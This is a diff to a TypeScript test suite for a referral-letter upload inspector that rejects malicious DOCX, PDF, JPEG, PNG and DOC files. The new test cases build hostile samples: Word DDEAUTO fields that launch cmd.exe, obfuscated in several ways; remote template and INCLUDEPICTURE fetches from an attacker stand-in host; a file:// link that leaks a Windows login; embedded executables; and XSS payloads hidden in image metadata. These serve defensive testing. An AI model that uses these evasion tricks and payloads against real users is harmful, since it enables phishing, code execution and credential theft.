@@ -1,6 +1,6 @@
 import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
 import { strToU8, zipSync, zlibSync, type Zippable } from 'fflate';
-import { encode as encodeJpeg } from 'jpeg-js';
+import { decode as decodeJpeg, encode as encodeJpeg } from 'jpeg-js';
 import { describe, expect, it } from 'vitest';
 import { referralLetterExtensions, type ReferralLetterExtension } from './registration.ts';
 import { inspectLetter, letterMatchesExtension, referralLetterSignatures, type LetterRejection } from './referral-letter.ts';
@@ -14,7 +14,10 @@ import {
   handPdf,
   jpegBytes,
   letterPdfObjects,
+  phoneJpeg,
   pngBytes,
+  pngChunk,
+  pngFile,
   wordDocumentStream,
 } from './test-fixtures/letters.ts';
 
@@ -113,22 +116,6 @@ const externalRels = (type: string) =>
   '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
   `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
   'Target="https://aanvaller.example/brief.dotm" TargetMode="External"/></Relationships>';
-
-/** A PNG's chunk, CRC included (the inspection checks CRCs through fast-png). */
-function pngChunk(type: string, data: Uint8Array): Uint8Array {
-  const typed = concatBytes(latin1(type), data);
-  let crc = 0xffffffff;
-  for (const byte of typed) {
-    crc ^= byte;
-    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
-  }
-  const out = new Uint8Array(12 + data.byteLength);
-  const view = new DataView(out.buffer);
-  view.setUint32(0, data.byteLength);
-  out.set(typed, 4);
-  view.setUint32(8 + data.byteLength, (crc ^ 0xffffffff) >>> 0);
-  return out;
-}
 
 function pngWithHeader(width: number, height: number, idat: Uint8Array): Uint8Array {
   const header = new Uint8Array(13);
@@ -503,5 +490,348 @@ describe('the PDF parser and #xx escapes', () => {
         expect(result.ok).toBe(false);
       }
     }
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// Issue 50: letters the earlier check marked ok
+// ---------------------------------------------------------------------------------------------
+
+const WORD_NAMESPACES =
+  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
+  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
+
+/** word/document.xml (or a header, footer) with this body. */
+const wordPart = (body: string, root = 'w:document') =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><${root} ${WORD_NAMESPACES}><w:body>${body}</w:body></${root}>`;
+
+/** A field split over runs, as Word writes it: begin, the code in pieces, separate, result, end. */
+const complexField = (...code: string[]) =>
+  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
+  code.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('') +
+  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Verwijsbrief</w:t></w:r>' +
+  '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
+
+const RELS_NAMESPACE = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const TEMPLATE_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
+const relsPart = (relationship: string, declaration = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>') =>
+  `${declaration}<Relationships xmlns="${RELS_NAMESPACE}">${relationship}</Relationships>`;
+
+/** UTF-16 bytes of `value`: little-endian with a byte order mark, or big-endian without one. */
+function utf16(value: string, order: 'le-bom' | 'be'): Uint8Array {
+  const le = Buffer.from(value, 'utf16le');
+  if (order === 'le-bom') return concatBytes(Uint8Array.from([0xff, 0xfe]), new Uint8Array(le));
+  const be = new Uint8Array(le.byteLength);
+  for (let index = 0; index < le.byteLength; index += 2) {
+    be[index] = le[index + 1] as number;
+    be[index + 1] = le[index] as number;
+  }
+  return be;
+}
+
+const ALT_CHUNK_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk';
+
+describe('inspectLetter flags what the earlier check let through (issue 50)', () => {
+  const cases: Array<[string, ReferralLetterExtension, () => Promise<Uint8Array> | Uint8Array, LetterRejection]> = [
+    // DOCX relationships read as XML, not by pattern.
+    [
+      'an external template with TargetMode="&#69;xternal" (a character reference)',
+      'docx',
+      () =>
+        docxWith({
+          'word/_rels/settings.xml.rels': relsPart(
+            `<Relationship Id="rId9" Type="${TEMPLATE_TYPE}" Target="https://aanvaller.example/brief.dotm" TargetMode="&#69;xternal"/>`,
+          ),
+        }),
+      'docx-external-reference',
+    ],
+    [
+      'an external template with Target (holding a ">") before TargetMode',
+      'docx',
+      () =>
+        docxWith({
+          'word/_rels/settings.xml.rels': relsPart(
+            `<Relationship Id="rId9" Target="https://aanvaller.example/brief.dotm?a=>" TargetMode="External" Type="${TEMPLATE_TYPE}"/>`,
+          ),
+        }),
+      'docx-external-reference',
+    ],
+    [
+      'an external template in a UTF-16 relationships part (byte order mark)',
+      'docx',
+      () =>
+        docxWith({
+          'word/_rels/settings.xml.rels': utf16(
+            relsPart(
+              `<Relationship Id="rId9" Type="${TEMPLATE_TYPE}" Target="https://aanvaller.example/brief.dotm" TargetMode="External"/>`,
+              '<?xml version="1.0" encoding="UTF-16" standalone="yes"?>',
+            ),
+            'le-bom',
+          ),
+        }),
+      'docx-external-reference',
+    ],
+    [
+      'an external template in a UTF-16 big-endian relationships part without byte order mark',
+      'docx',
+      () =>
+        docxWith({
+          'word/_rels/settings.xml.rels': utf16(
+            relsPart(
+              `<Relationship Id="rId9" Type="${TEMPLATE_TYPE}" Target="https://aanvaller.example/brief.dotm" TargetMode="External"/>`,
+              '<?xml version="1.0" encoding="UTF-16"?>',
+            ),
+            'be',
+          ),
+        }),
+      'docx-external-reference',
+    ],
+    [
+      'a template on a UNC path without TargetMode',
+      'docx',
+      () =>
+        docxWith({
+          'word/_rels/settings.xml.rels': relsPart(
+            `<Relationship Id="rId9" Type="${TEMPLATE_TYPE}" Target="\\\\aanvaller.example\\share\\brief.dotm"/>`,
+          ),
+        }),
+      'docx-external-reference',
+    ],
+    [
+      'a relationships part with a DTD (entities spell names differently)',
+      'docx',
+      () =>
+        docxWith({
+          'word/_rels/settings.xml.rels':
+            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]>' +
+            relsPart(`<Relationship Id="rId9" Type="${TEMPLATE_TYPE}" Target="https://x.example/t" TargetMode="&e;"/>`, ''),
+        }),
+      'docx-structure',
+    ],
+
+    // DOCX fields.
+    [
+      'a DDEAUTO field split over runs',
+      'docx',
+      () =>
+        docxWith({ 'word/document.xml': wordPart(complexField(' DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')) }),
+      'docx-dangerous-field',
+    ],
+    [
+      'a DDE field in lower case, spelled with a character reference',
+      'docx',
+      () =>
+        docxWith({ 'word/document.xml': wordPart(complexField(' &#100;de c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')) }),
+      'docx-dangerous-field',
+    ],
+    [
+      'INCLUDEPICTURE "http://…" as a simple field',
+      'docx',
+      () =>
+        docxWith({
+          'word/document.xml': wordPart(
+            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://aanvaller.example/p.png&quot; \\d "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
+          ),
+        }),
+      'docx-dangerous-field',
+    ],
+    [
+      'INCLUDETEXT in a footer',
+      'docx',
+      () =>
+        docxWith({
+          'word/footer1.xml': wordPart(complexField(' INCLUDETEXT "\\\\\\\\aanvaller.example\\\\s\\\\x.docx" '), 'w:ftr'),
+        }),
+      'docx-dangerous-field',
+    ],
+    [
+      'a DDEAUTO field whose type comes from a nested QUOTE field',
+      'docx',
+      () =>
+        docxWith({
+          'word/document.xml': wordPart(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
+              '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE "DDEAUTO" </w:instrText></w:r>' +
+              '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>' +
+              '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>' +
+              '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+          ),
+        }),
+      'docx-dangerous-field',
+    ],
+
+    // altChunk: Word converts the embedded RTF or HTML document when it opens the file.
+    [
+      'altChunk pointing at an RTF part',
+      'docx',
+      () =>
+        docxWith({
+          'word/document.xml': wordPart('<w:altChunk r:id="rId7"/>'),
+          'word/_rels/document.xml.rels': relsPart(`<Relationship Id="rId7" Type="${ALT_CHUNK_TYPE}" Target="afchunk.rtf"/>`),
+          'word/afchunk.rtf': '{\\rtf1 {\\object\\objemb {\\*\\objdata 0105}}}',
+        }),
+      'docx-embedded-object',
+    ],
+    [
+      'an aFChunk relationship to an HTML part without altChunk in the text',
+      'docx',
+      () =>
+        docxWith({
+          'word/_rels/document.xml.rels': relsPart(`<Relationship Id="rId7" Type="${ALT_CHUNK_TYPE}" Target="chunk.dat"/>`),
+          'word/chunk.dat': HTML,
+        }),
+      'docx-embedded-object',
+    ],
+    [
+      'a part declared as HTML in [Content_Types].xml',
+      'docx',
+      () =>
+        docxWith({
+          '[Content_Types].xml': DOCX_CONTENT_TYPES.replace(
+            '</Types>',
+            '<Override PartName="/word/chunk.dat" ContentType="text/html"/></Types>',
+          ),
+          'word/chunk.dat': HTML,
+        }),
+      'docx-foreign-part',
+    ],
+    ['a DOCX with a ZIP appended', 'docx', () => concatBytes(docxBytes(), docxBytes()), 'docx-structure'],
+    ['a DOCX with bytes after its end record', 'docx', () => concatBytes(docxBytes(), latin1('x')), 'docx-structure'],
+
+    // PDF
+    [
+      'a FileAttachment annotation embedding an .exe without /Type /EmbeddedFile',
+      'pdf',
+      () =>
+        handPdf([
+          ...letterPdfObjects().slice(0, 2),
+          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R] >>',
+          ...letterPdfObjects().slice(3),
+          '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (factuur.exe) /EF << /F 7 0 R >> >> >>',
+          '<< /Length 3 >>\nstream\nMZ\x90\nendstream',
+        ]),
+      'pdf-embedded-file',
+    ],
+    [
+      'a file specification with /EF inside a compressed object stream',
+      'pdf',
+      () => pdfWithObjectStream('<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'),
+      'pdf-embedded-file',
+    ],
+    [
+      'a link to a file: URL (leaks the Windows login)',
+      'pdf',
+      () =>
+        handPdf([
+          ...letterPdfObjects(),
+          '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://aanvaller.example/share/x) >> >>',
+        ]),
+      'pdf-action',
+    ],
+    [
+      'a javascript: link',
+      'pdf',
+      () => handPdf([...letterPdfObjects(), '<< /S /URI /URI <6a6176617363726970743a616c6572742831293b> >>']),
+      'pdf-action',
+    ],
+    ['a PDF with a ZIP appended', 'pdf', () => concatBytes(handPdf(letterPdfObjects()), docxBytes()), 'polyglot'],
+    [
+      'a PDF with a ZIP appended and a %%EOF after it',
+      'pdf',
+      () => concatBytes(handPdf(letterPdfObjects()), docxBytes(), latin1('\n%%EOF\n')),
+      'polyglot',
+    ],
+    [
+      'a PDF with <svg onload=…> in a string',
+      'pdf',
+      () => handPdf(letterPdfObjects('/Lang (<svg onload=alert(document.domain)>) ')),
+      'polyglot',
+    ],
+
+    // JPEG, PNG, DOC
+    ['a JPEG with a ZIP appended', 'jpg', () => concatBytes(jpegBytes(), docxBytes()), 'polyglot'],
+    ['a phone JPEG with a ZIP appended', 'jpg', () => concatBytes(phoneJpeg(640, 480), docxBytes()), 'polyglot'],
+    ['a JPEG with text appended', 'jpg', () => concatBytes(jpegBytes(), latin1('gewoon wat tekst')), 'polyglot'],
+    ['a JPEG with <svg onload=…> in a comment', 'jpg', () => phoneJpeg(64, 48, { comment: '<svg onload=alert(1)>' }), 'polyglot'],
+    [
+      'a JPEG with <img onerror=…> in a comment',
+      'jpg',
+      () => phoneJpeg(64, 48, { comment: '<img src=x onerror=alert(1)>' }),
+      'polyglot',
+    ],
+    [
+      'a PNG with <svg/onload=…> in a text chunk',
+      'png',
+      () =>
+        pngFile({ width: 1, height: 1, depth: 8, colourType: 0 }, zlibSync(new Uint8Array(2)), [
+          pngChunk('tEXt', latin1('Comment\0<svg/onload=alert(1)>')),
+        ]),
+      'polyglot',
+    ],
+    [
+      'a PNG with a javascript: link in a text chunk',
+      'png',
+      () =>
+        pngFile({ width: 1, height: 1, depth: 8, colourType: 0 }, zlibSync(new Uint8Array(2)), [
+          pngChunk('tEXt', latin1('Comment\0<a href="javascript:alert(1)">x</a>')),
+        ]),
+      'polyglot',
+    ],
+    ['a DOC with a ZIP appended', 'doc', () => concatBytes(docBytes(), docxBytes()), 'polyglot'],
+  ];
+
+  it.each(cases)('%s', async (_name, extension, build, reason) => {
+    expect(await inspectLetter(await build(), extension)).toEqual({ ok: false, reason });
+  });
+
+  it.each([
+    [
+      'a DOCX with a hyperlink field, a page number in the footer and a UTF-16 relationships part',
+      'docx',
+      () =>
+        docxWith({
+          'word/document.xml': wordPart(complexField(' HYPERLINK "https://www.ankerlicht-ggz.nl/link" ')),
+          'word/footer1.xml': wordPart('<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>', 'w:ftr'),
+          'word/_rels/document.xml.rels': utf16(
+            relsPart(
+              '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" ' +
+                'Target="https://www.ankerlicht-ggz.nl/" TargetMode="External"/>',
+              '<?xml version="1.0" encoding="UTF-16" standalone="yes"?>',
+            ),
+            'le-bom',
+          ),
+        }),
+    ],
+    [
+      'a PDF with mailto: and tel: links',
+      'pdf',
+      () =>
+        handPdf([
+          ...letterPdfObjects(),
+          '<< /S /URI /URI (mailto:info@ankerlicht-ggz.nl) >>',
+          '<< /S /URI /URI (tel:+31201234567) >>',
+        ]),
+    ],
+    ['a phone JPEG with padding after the image', 'jpg', () => concatBytes(phoneJpeg(640, 480), new Uint8Array(64))],
+    [
+      'a phone JPEG with a second image (MPF) and a Samsung trailer',
+      'jpg',
+      () => {
+        const data = latin1('Image_UTC_Data1767225600000');
+        const directory = concatBytes(latin1('SEFH'), new Uint8Array(12));
+        const length = new Uint8Array(4);
+        new DataView(length.buffer).setUint32(0, directory.byteLength, true);
+        return concatBytes(phoneJpeg(640, 480), phoneJpeg(160, 120), data, directory, length, latin1('SEFT'));
+      },
+    ],
+  ] as const)('accepts %s', async (_name, extension, build) => {
+    expect(await inspectLetter(build(), extension)).toEqual({ ok: true });
+  });
+
+  it('builds phone JPEGs that a real decoder reads (the generator the large-photo tests use)', () => {
+    const image = decodeJpeg(phoneJpeg(64, 48), { useTArray: true, formatAsRGBA: false });
+    expect([image.width, image.height]).toEqual([64, 48]);
+    // Mid-grey everywhere: DC 0 after the level shift.
+    expect(new Set(image.data)).toEqual(new Set([128]));
   });
 });
